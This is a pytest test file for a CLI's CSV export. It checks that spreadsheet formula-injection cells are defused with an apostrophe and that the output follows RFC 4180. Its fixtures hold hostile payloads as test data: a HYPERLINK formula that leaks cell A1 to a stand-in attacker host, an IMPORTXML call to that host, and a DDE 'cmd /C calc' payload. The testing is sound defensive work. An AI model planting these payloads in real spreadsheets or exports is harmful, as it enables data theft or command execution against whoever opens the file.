"""``plan-portal export --format csv``: the same records as the JSON export, safe to open in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path
from typing import Any

import pytest
from click.testing import CliRunner, Result
from hypothesis import given
from hypothesis import strategies as st

from plan_portal.cli import main
from plan_portal.export_csv import defuse, export_csv, rows

REPO = Path(__file__).resolve().parents[1]
TABLES = ("gates", "risks", "decisions")
#: The first columns of each table: feature, id, then what a reviewer reads first.
LEADING = {
    "gates": ["feature", "id", "name", "status", "raw_status"],
    "risks": ["feature", "id", "description", "level", "probability", "raw_probability", "impact", "raw_impact"],
    "decisions": ["feature", "id", "title", "choice", "status", "raw_status"],
}
#: OWASP: a spreadsheet reads a cell starting with one of these as a formula.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")

HOSTILE_PLAN = """\
# Implementation Plan: Hostile cells

## Constitution Check

| Gate | Status | Evidence | Owner |
|------|--------|----------|-------|
| =HYPERLINK("http://attacker.test/?leak="&A1,"Click me") | PASS | Reviewed, signed "as is" by QA | -2+3 |
| Plain, with comma | PASS | @SUM(1+1) | +44 20 7946 0000 |

## Decision Log

| ID | Decision | Context | Status | Follow-up |
|----|----------|---------|--------|-----------|
| ADR-001 | -Use the "fast" path, then cache | =1+1 | Accepted | none |

## Risk Register

| ID | Description | Probability | Impact | Owner | Mitigation | Trigger |
|----|-------------|-------------|--------|-------|------------|---------|
| R1 | =cmd\\|' /C calc'!A0 | Low | High | Ops, SRE | "Quote" everything | -1 day |
"""

HOSTILE_RESEARCH = """\
# Research: Hostile cells

## 1. Storage

**Decision**: =IMPORTXML("http://attacker.test", "//a")

**Rationale**: Fast, and "boring".

**Alternatives considered**:
- Files: simple
- @Postgres: heavy
"""


def invoke(*args: str) -> Result:
    return CliRunner().invoke(main, list(args), catch_exceptions=False)


def exported(*roots: str) -> dict[str, Any]:
    result = invoke("export", *roots)
    assert result.exit_code == 0, result.output
    document: dict[str, Any] = json.loads(result.stdout)
    return document


def csv_rows(table: str, *roots: str) -> tuple[str, list[dict[str, str]]]:
    result = invoke("export", "--format", "csv", "--table", table, *roots)
    assert result.exit_code == 0, result.output
    text = result.stdout_bytes.decode("utf-8")
    return text, list(csv.DictReader(io.StringIO(text, newline="")))


def expected_cell(value: object) -> str:
    """What a CSV cell holds for a JSON value: text defused by an apostrophe, numbers as digits."""
    if isinstance(value, str):
        return "'" + value if value.startswith(FORMULA_STARTS) else value
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int):
        return str(value)
    if value is None:  # a gate that checks no principle
        return ""
    raise AssertionError(f"no scalar: {value!r}")


def assert_rows_match_records(table: str, rows: list[dict[str, str]], records: list[dict[str, Any]]) -> None:
    assert len(rows) == len(records)
    extra_keys = {key for record in records for key in record["extra"]}
    for row, record in zip(rows, records, strict=True):
        assert row["source_path"] == expected_cell(record["source"]["path"])
        assert row["source_line"] == str(record["source"]["line"])
        for key, value in record.items():
            if key == "source":
                continue
            if key == "extra":
                for extra_key in extra_keys:
                    assert row[f"extra: {extra_key}"] == expected_cell(value.get(extra_key, "")), (record["id"], key)
            else:
                assert row[key] == expected_cell(value), (record["id"], key)


@pytest.fixture
def in_repo(monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.chdir(REPO)
    return REPO


@pytest.fixture
def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    feature = tmp_path / "specs" / "001-hostile"
    feature.mkdir(parents=True)
    (feature / "plan.md").write_text(HOSTILE_PLAN, encoding="utf-8")
    (feature / "research.md").write_text(HOSTILE_RESEARCH, encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    return tmp_path


@pytest.mark.parametrize("table", TABLES)
def test_demo_csv_rows_equal_json_records(in_repo: Path, table: str) -> None:
    records = exported("specs")[table]
    assert records, f"the demo portfolio has {table}"
    _, rows = csv_rows(table, "specs")
    assert_rows_match_records(table, rows, records)


@pytest.mark.parametrize("table", TABLES)
def test_columns_are_stable_and_cover_every_field(in_repo: Path, table: str) -> None:
    records = exported("specs")[table]
    text, _ = csv_rows(table, "specs")
    header = next(csv.reader(io.StringIO(text, newline="")))
    assert header[: len(LEADING[table])] == LEADING[table]
    assert header.index("source_line") == header.index("source_path") + 1
    fields = {key for record in records for key in record} - {"source", "extra"}
    extras = {f"extra: {key}" for record in records for key in record["extra"]}
    assert set(header) == fields | {"source_path", "source_line"} | extras
    assert len(header) == len(set(header))
    # extra columns come last, sorted, so scripts can rely on the positions of the others
    assert header[len(header) - len(extras):] == sorted(extras)


def test_hostile_cells_round_trip_defused(hostile: Path) -> None:
    document = exported()
    for table in TABLES:
        text, rows = csv_rows(table)
        assert_rows_match_records(table, rows, document[table])
        assert len(rows) == len(document[table])
        for row in csv.reader(io.StringIO(text, newline="")):
            for cell in row:
                assert not cell.startswith(FORMULA_STARTS), (table, cell)
    _, gates = csv_rows("gates")
    assert [g["name"] for g in gates] == [
        '\'=HYPERLINK("http://attacker.test/?leak="&A1,"Click me")', "Plain, with comma"
    ]
    assert [g["evidence"] for g in gates] == ['Reviewed, signed "as is" by QA', "'@SUM(1+1)"]
    assert [g["owner"] for g in gates] == ["'-2+3", "'+44 20 7946 0000"]
    _, risks = csv_rows("risks")
    assert [(r["description"], r["owner"], r["mitigation"], r["trigger"]) for r in risks] == [
        ("'=cmd|' /C calc'!A0", "Ops, SRE", '"Quote" everything', "'-1 day")
    ]
    _, decisions = csv_rows("decisions")
    by_origin = {d["origin"]: d for d in decisions}
    assert by_origin["plan-table"]["title"] == "'-Use the \"fast\" path, then cache"
    assert by_origin["plan-table"]["context"] == "'=1+1"
    research = by_origin["research"]
    assert research["choice"] == "'=IMPORTXML(\"http://attacker.test\", \"//a\")"
    assert research["rationale"] == 'Fast, and "boring".'
    assert research["alternatives"] == "'- Files: simple\n- @Postgres: heavy"


def test_csv_is_rfc_4180(hostile: Path) -> None:
    text, rows = csv_rows("decisions")
    # records end in CRLF; a newline inside a cell stays a bare LF inside quotes
    assert text.endswith("\r\n")
    assert text.count("\r\n") == 1 + len(rows)
    assert ',"Fast, and ""boring"".","\'- Files: simple\n- @Postgres: heavy",' in text


def test_output_file_holds_the_same_bytes(hostile: Path) -> None:
    result = invoke("export", "--format", "csv", "--table", "decisions", "-o", "decisions.csv")
    assert result.exit_code == 0, result.output
    assert result.stdout == ""
    assert (hostile / "decisions.csv").read_bytes() == csv_rows("decisions")[0].encode("utf-8")


def test_empty_table_has_header_only(hostile: Path) -> None:
    (hostile / "specs" / "001-hostile" / "plan.md").write_text("# Plan\n\nNothing yet.\n", encoding="utf-8")
    text, rows = csv_rows("risks")
    assert rows == []
    assert text.startswith("feature,id,description,") and text.count("\r\n") == 1


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--format", "csv"], "--format csv needs --table"),
        (["--format", "json", "--table", "gates"], "--table is for --format csv"),
        (["--format", "csv", "--table", "research"], "'research' is not one of"),
        (["--format", "xlsx", "--table", "gates"], "'xlsx' is not one of"),
    ],
)
def test_usage_errors_exit_2(hostile: Path, args: list[str], message: str) -> None:
    result = invoke("export", *args)
    assert result.exit_code == 2, result.output
    assert message in result.output


@pytest.mark.parametrize(
    ("text", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@A1", "'@A1"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("a=1", "a=1"),
        (" =1", " =1"),
        ("'=1", "'=1"),
        ("", ""),
    ],
)
def test_defuse(text: str, cell: str) -> None:
    assert defuse(text) == cell


def test_list_values_are_joined_then_defused() -> None:
    record = {"feature": "f", "id": "f/g", "name": ["-a", "b"], "status": ["pass"], "raw_status": [],
              "source": {"path": "p.md", "line": 3}, "local_id": "g", "phase": "", "phase_label": "",
              "evidence": "", "owner": "", "extra": {}, "group": "", "principle": None}
    header, body = rows("gates", {"gates": [record]})
    cells = dict(zip(header, body[0], strict=True))
    assert (cells["name"], cells["status"], cells["raw_status"], cells["source_line"]) == ("'-a; b", "pass", "", 3)


@given(texts=st.lists(st.text(), min_size=1, max_size=4), extra=st.dictionaries(st.text(), st.text(), max_size=3))
def test_any_text_round_trips(texts: list[str], extra: dict[str, str]) -> None:
    records = [
        {"feature": "f", "id": f"f/ADR-{n}", "local_id": f"ADR-{n}", "title": text, "choice": text,
         "status": "accepted", "raw_status": text, "context": text, "rationale": "", "alternatives": text,
         "follow_up": "", "origin": "plan-table", "source": {"path": "specs/f/plan.md", "line": n + 1}, "extra": extra,
         "date": text, "date_from": "record"}
        for n, text in enumerate(texts)
    ]
    parsed = list(csv.DictReader(io.StringIO(export_csv("decisions", {"decisions": records}), newline="")))
    assert_rows_match_records("decisions", parsed, records)
